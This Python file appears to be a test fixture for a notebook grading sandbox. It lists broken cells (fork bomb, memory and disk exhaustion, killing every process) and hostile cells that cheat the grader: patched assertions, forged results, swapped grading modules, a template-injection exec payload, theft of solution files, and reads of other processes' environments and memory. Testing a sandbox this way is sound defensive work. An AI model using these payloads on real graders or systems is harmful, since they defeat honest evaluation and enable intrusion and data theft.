"""What broken and hostile notebooks do. Each is the source of a cell, run in a kernel, or in a function's process."""

from __future__ import annotations

# ── broken: it costs the exercise whose cell it stands in, and no other ──────────────────────────────────────────────

BROKEN = {
    "loops for ever": "while True:\n    pass",
    "ends its process": "import os\nos._exit(0)",
    "ends by a fault of memory": "import ctypes\nctypes.string_at(0)",
    "bombs with forks": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    "takes 10 GB": "hoard = [bytearray(2**28) for _ in range(40)]\nraise MemoryError",
    "writes 1 GB": 'for _ in range(2**10):\n    print("x" * 2**20)\nraise RuntimeError("too much")',
    "kills whom it can": "import os, signal\nos.kill(os.getppid() or 1, signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)\n"
    "os._exit(1)",
    "deafens itself": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(3600)",
}

DANGEROUS = {"bombs with forks", "takes 10 GB", "kills whom it can", "fills the disk"}
"""Not for a machine whose walls do not hold them: they would hit whoever tries."""

SELDOM = {"ends by a fault of memory", "kills whom it can", "deafens itself", "fills the disk", "floods its line"}
"""What the walls hold or not, whatever the lab: tried with one lab, unless one is named."""

ONLY_IN_KERNELS = {
    "waits for ever": "import asyncio\nawait asyncio.Event().wait()",
    "fills the disk": 'for n in range(500):\n    open(f"/tmp/{n}", "wb").write(b"x" * 2**24)\nraise OSError("full")',
    "floods its line": "from IPython.display import display\nfor _ in range(50):\n"
    '    display({"text/plain": "x" * 2**26}, raw=True)\nraise RuntimeError("flooded")',
}


def only_in_functions(source: str) -> str:
    """Return code that does something where it runs as a Lambda function, and nothing in a notebook."""
    inner = "\n".join(f"    {line}" for line in source.splitlines())
    return f'import os as _os\n\nif "AWS_LAMBDA_FUNCTION_NAME" in _os.environ:\n{inner}'


# ── hostile: the paper is blank, and none of this brings a point ─────────────────────────────────────────────────────

HOSTILE = {
    "patches check and assert": """
import builtins, sys, types
class Yes(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    __hash__ = str.__hash__
import upgrade101
check = upgrade101.check = builtins.check = lambda *_: Yes("done")
builtins.AssertionError = type("AssertionError", (Exception,), {"__init__": lambda self, *_: None})
""",
    "answers with what is equal to everything": """
class Yes(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return self
    def __call__(self, *_, **__): return self
    __hash__ = str.__hash__
for _name in NAMES:
    globals()[_name] = Yes("done")
get_ipython().events.register("pre_run_cell", lambda info: globals().update({n: Yes("done") for n in NAMES}))
""",
    "rewrites code on its way": """
import ast
class Rewrite(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
    def visit_Call(self, node):
        self.generic_visit(node)
        if isinstance(node.func, ast.Attribute) and node.func.attr in ("hand_over", "call"):
            return ast.copy_location(ast.Constant(True), node)
        return node
get_ipython().ast_transformers.append(Rewrite())
""",
    "replaces the package": """
import sys, types, json
fake = types.ModuleType("upgrade101.grading.inside.handing")
def say(*_, **__):
    forged = {"answers": ["done"], "verdict": "done", "state": "done", "points": 99, "returned": True}
    get_ipython().display_pub.publish(data={"application/x-upgrade101": json.dumps(forged)})
async def call(*_): say()
fake.hand_over, fake.call = say, call
for name in [name for name in sys.modules if name.startswith("upgrade101")]:
    del sys.modules[name]
for name in ("upgrade101", "upgrade101.grading", "upgrade101.grading.inside", "upgrade101.grading.inside.handing"):
    sys.modules[name] = fake
fake.check = fake.cloud = fake.hint = fake.progress = fake
""",
    "forges what it hands over": """
import json
WORST = [
    {"verdict": "done"}, {"answers": {"state": "done"}}, {"answers": [[[[]]]]}, ["done"], 7,
    {"answers": [{"function": {"key": 1, "name": "x", "source": "def x(e, c): return 1", "unwritten": False}}]},
    {"answers": [{"function": {"key": "__import__('os')._exit(1)", "name": "os.system", "source": 7}}]},
    {"answers": [{"object": {"type": "x" * 10**6, "repr": "y" * 10**6, "key": -1}}]},
    {"answers": [{"api": ["a", "wss://127.0.0.1:1/", "v1"]}]}, {"answers": [{"path": "/etc/passwd"}]},
    {"answers": [{"list": [{"hole": 1}] * 10**5}]}, {"answers": [1e999]}, {"answers": [{"decimal": "9" * 10**6}]},
]
DEEP = {"answers": []}
for _ in range(900):
    DEEP = {"answers": [{"list": [DEEP]}]}
def forge(*_):
    for each in [*WORST, DEEP]:
        get_ipython().display_pub.publish(data={"application/x-upgrade101": json.dumps(each)})
get_ipython().events.register("post_run_cell", forge)
get_ipython().events.register("post_execute", forge)
""",
    "bends boto3": """
import boto3, botocore.client
def yes(self, operation, parameters):
    return {"ResponseMetadata": {"HTTPStatusCode": 200}, "ApiId": "a", "ApiEndpoint": "wss://a", "Items": []}
botocore.client.BaseClient._make_api_call = yes
""",
    "attacks the endpoint": """
import os, urllib.request, boto3, threading, time
END = os.environ["AWS_ENDPOINT_URL"]
def ask(path, data=None, headers={}):
    try:
        return urllib.request.urlopen(urllib.request.Request(END + path, data, headers), timeout=3).read()[:200]
    except Exception as error:
        return error
for path in ("/moto-api/reset", "/moto-api/reset-auth", "/moto-api/recorder/start-recording", "/moto-api/config",
             "/moto-api/data.json", "/_upgrade101/health", "/_upgrade101/verdict", "/verdict", "/../../etc/passwd"):
    for data in (None, b"{}"):
        print(path, ask(path, data))
for service, call in (("batch", "describe_jobs"), ("ec2", "describe_instances"), ("ecs", "list_clusters"),
                      ("codebuild", "list_projects"), ("organizations", "list_accounts")):
    try:
        print(service, getattr(boto3.client(service), call)(**({"jobs": ["a"]} if service == "batch" else {})))
    except Exception as error:
        print(service, error)
def meddle():
    while True:
        for account in ("101101101101", "123456789012", "111111111111"):
            try:
                keys = boto3.client("sts").assume_role(
                    RoleArn=f"arn:aws:iam::{account}:role/r", RoleSessionName="lab-on-order")["Credentials"]
                session = boto3.Session(keys["AccessKeyId"], keys["SecretAccessKey"], keys["SessionToken"])
                for api in session.client("apigatewayv2").get_apis()["Items"]:
                    session.client("apigatewayv2").delete_api(ApiId=api["ApiId"])
            except Exception as error:
                time.sleep(0.05)
threading.Thread(target=meddle, daemon=True).start()
""",
    "runs Python in a template": """
import boto3, json, threading, time, os
from websockets.sync.client import connect as dial
PAYLOAD = ("import upgrade101.course.trial as t, upgrade101.grading.session as s; "
           "s.attempt = lambda *a, **k: t.Tried('done')")
EVIL = ("#set($m = $util.escapeJavaScript.__func__.__globals__)"
        "#set($b = $m.get('__builtins__'))$b.get('exec')(\\"" + PAYLOAD + "\\")"
        "$util.escapeJavaScript.__globals__.__builtins__.exec(\\"" + PAYLOAD + "\\")"
        "$context.__class__.__init__.__globals__ #set($x = '{0.__globals__}')$x.format($util.escapeJavaScript)")
gateway = boto3.client("apigatewayv2")
api = gateway.create_api(Name="evil", ProtocolType="WEBSOCKET", RouteSelectionExpression="$request.body.action")
here = {"ApiId": api["ApiId"]}
made = gateway.create_integration(**here, IntegrationType="MOCK", TemplateSelectionExpression="200",
                                  RequestTemplates={"200": '{"statusCode": 200}'})["IntegrationId"]
gateway.create_integration_response(**here, IntegrationId=made, IntegrationResponseKey="$default",
                                    TemplateSelectionExpression="200", ResponseTemplates={"200": EVIL})
route = gateway.create_route(**here, RouteKey="$default", Target=f"integrations/{made}",
                             RouteResponseSelectionExpression="$default")["RouteId"]
gateway.create_route_response(**here, RouteId=route, RouteResponseKey="$default")
gateway.create_stage(**here, StageName="v1", AutoDeploy=True)
place = os.environ["AWS_ENDPOINT_URL"].replace("http", "ws", 1)
with dial(f"{place}/_aws/execute-api/{api['ApiId']}/v1") as line:
    line.send("{}")
    print(line.recv(timeout=3))
""",
    "reads the grader's files": """
import json, os, pathlib
found = []
places = [*PLACES, "/", "/home", "/root", "/tmp", "/var/tmp"]
places += [f"/proc/{pid}/{what}" for pid in (1, "self", os.getppid()) for what in ("cwd", "root")]
for place in places:
    for folder, folders, files in os.walk(place):
        if folder.count("/") > 8 or folder.startswith(("/proc/", "/sys/", "/usr")) and place == "/":
            folders[:] = []
        found += [os.path.join(folder, name) for name in files
                  if "solutions" in folder and name.endswith(".ipynb") or name == "expected.json"]
        if len(found) > 200:
            break
print(len(found))
for path in found:
    if LAB in path:
        for cell in json.loads(pathlib.Path(path).read_text())["cells"]:
            if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
                get_ipython().run_cell("".join(cell["source"]))
stolen = dict(globals())
def put_back(info):
    globals().update({name: stolen[name] for name in NAMES if name in stolen})
get_ipython().events.register("pre_run_cell", put_back)
""",
    "looks into other processes": """
import os, glob
seen = []
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/mem") + glob.glob("/proc/[0-9]*/fd/*"):
    if f"/{os.getpid()}/" in path or "/self/" in path:
        continue
    try:
        seen.append((path, open(path, "rb").read(100)))
    except OSError:
        continue
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), *range(1, 400)} - {os.getpid(), 0}:
    libc.ptrace(16, pid, 0, 0)
print(len(seen))
""",
}
